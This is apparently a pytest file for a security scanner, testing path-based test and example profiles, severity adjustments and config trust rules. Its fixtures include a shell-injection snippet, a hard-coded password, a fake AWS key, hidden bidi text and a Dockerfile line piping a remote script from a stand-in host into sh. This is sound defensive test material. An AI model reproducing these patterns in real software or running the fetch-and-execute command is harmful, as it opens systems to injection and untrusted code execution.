"""Tests and examples: what they are by where they stand, what is quieter there, and what never is."""

import pytest

from gifthorse.engine.inspect import inspect
from gifthorse.model.finding import Severity
from gifthorse.model.text import Text
from gifthorse.store.catalogue import load_catalogue
from gifthorse.store.config import Config, combine, editor_layer, file_layer
from gifthorse.store.profiles import DEFAULTS, NEVER, profile_of
from gifthorse.workspace.judge import judge
from gifthorse.workspace.owners import Owners

RULES = load_catalogue()
TESTS = [
    "tests/a.py", "pkg/tests/x/a.py", "test_a.py", "src/a_test.py", "conftest.py", "a_test.go", "src/a.test.ts",
    "src/a.spec.js", "src/__tests__/a.js", "cypress/e2e/a.cy.ts", "src/test/java/A.java", "x/ATest.java", "x/AIT.java",
    "x/ATest.kt", "A.Tests/B.cs", "x/ATests.cs", "spec/a_spec.rb", "tests/a.rs", "Tests/AppTests/A.swift",
    "tests/ATest.php", "a_test.cc", "a.bats", "a.Tests.ps1", "androidTest/A.kt",
]  # fmt: skip
EXAMPLES = ["examples/a.py", "docs/conf.py", "x/samples/a.go", "demo/a.js", "tutorial/a.py"]
NEITHER = [
    "a.py", "src/latest.py", "contest.py", "attest/a.go", "testing.py", "src/Testament.java", "protest/a.py",
    "demonstration.py", "example.py", "src/doctor/a.py", "fastest_test/a.py", "",
]  # fmt: skip


@pytest.mark.parametrize("name", TESTS)
def test_tests_are_known_by_where_they_stand(name):
    assert profile_of(name, DEFAULTS).name == "test"


@pytest.mark.parametrize("name", EXAMPLES)
def test_examples_are_known_by_where_they_stand(name):
    assert profile_of(name, DEFAULTS).name == "example"


@pytest.mark.parametrize("name", NEITHER)
def test_other_code_has_no_profile(name):
    assert profile_of(name, DEFAULTS) is None


def judged(code, name, config=None):
    content = code.encode()
    report = inspect(content, name, None, RULES).report
    found = judge(report, Text.of(content), Owners(()), config or Config(), RULES, name)
    return {one.finding.rule: one.finding.severity for one in found}


SHELL = "import os, sys\nos.system('ls ' + sys.argv[1])\n"
PASSWORD = 'password = "Tr0ub4dor&3x"\n'
KEY = 'aws = "AKIA' + 'QYLPMN5HHHFPZAM2"\n'
BIND = "from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0')\n"


def test_what_is_found_in_tests_is_one_step_quieter():
    (rule,) = judged(SHELL, "a.py")
    assert judged(SHELL, "a.py")[rule] is Severity.HIGH
    assert judged(SHELL, "tests/a.py")[rule] is Severity.MEDIUM
    assert judged(SHELL, "examples/a.py")[rule] is Severity.MEDIUM


def test_hygiene_is_not_shown_in_tests():
    for code, rule in ((PASSWORD, "hard-coded-credential"), (BIND, "bind-all-interfaces")):
        assert rule in judged(code, "a.py")
        assert rule not in judged(code, "tests/test_a.py")
    assert "hard-coded-credential" in judged(PASSWORD, "examples/a.py")


@pytest.mark.parametrize("code", [KEY, "x = 1  # \u202e\u2066 gnihton\u2069\n"])
def test_real_secrets_and_hidden_text_are_as_loud_in_tests(code):
    assert judged(code, "a.py")
    assert judged(code, "tests/test_a.py") == judged(code, "a.py")


def test_what_configures_is_the_same_everywhere():
    code = "FROM ubuntu:latest\nUSER root\nRUN curl http://x.example | sh\n"
    assert judged(code, "Dockerfile")
    assert judged(code, "tests/Dockerfile") == judged(code, "Dockerfile")


def test_what_profiles_name_there_is():
    assert frozenset().union(*(one.hidden for one in DEFAULTS)) <= RULES.rules.keys()
    assert RULES.families.keys() >= NEVER
    assert not any(RULES.rules[rule].family in NEVER for one in DEFAULTS for rule in one.hidden)


def configured(tmp_path, text, *, trusted):
    file = tmp_path / "gifthorse.toml"
    file.write_text(text)
    return combine([file_layer(file, trusted=trusted)], {rule.id: rule.severity for rule in RULES.rules.values()})


LOOSER = '[profiles.test]\npaths = ["*.py"]\nhidden = ["shell-injection"]\n[suppressions]\nforeign = true\n'
TIGHTER = (
    '[profiles.test]\nexcept = ["tests/helpers/"]\nshown = ["hard-coded-credential"]\n[profiles.example]\nuse = false\n'
)


def test_a_trusted_file_may_hide_more(tmp_path):
    config = configured(tmp_path, LOOSER, trusted=True)
    assert not config.problems
    assert config.foreign
    assert judged(SHELL, "a.py", config) == {}


def test_an_untrusted_file_hides_nothing_more_and_it_is_said(tmp_path):
    config = configured(tmp_path, LOOSER, trusted=False)
    assert not config.foreign
    assert judged(SHELL, "a.py", config) == judged(SHELL, "a.py")
    assert sorted(problem.line for problem in config.ignored) == [1, 5]


@pytest.mark.parametrize("trusted", [True, False])
def test_any_file_may_show_more(tmp_path, trusted):
    config = configured(tmp_path, TIGHTER, trusted=trusted)
    assert not config.problems
    assert not config.ignored
    assert "hard-coded-credential" in judged(PASSWORD, "tests/a.py", config)
    assert judged(SHELL, "tests/helpers/a.py", config) == judged(SHELL, "a.py")
    assert judged(SHELL, "examples/a.py", config) == judged(SHELL, "a.py")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[profiles.tests]\nuse = false\n", "Did you mean `test`"),
        ('[profiles.test]\npath = ["a"]\n', "Did you mean `paths`"),
        ('[profiles.test]\nhidden = ["no-such-rule"]\n', "`gifthorse rules`"),
        ('[suppressions]\nforeign = "yes"\n', "true or false"),
    ],
)
def test_what_is_wrong_is_said(tmp_path, text, said):
    (problem,) = configured(tmp_path, text, trusted=True).problems
    assert said in problem.remedy


def test_the_editor_s_settings_count():
    config = combine([editor_layer({"profiles": {"test": {"use": False}}})], {})
    assert judged(SHELL, "tests/a.py", config) == judged(SHELL, "a.py")
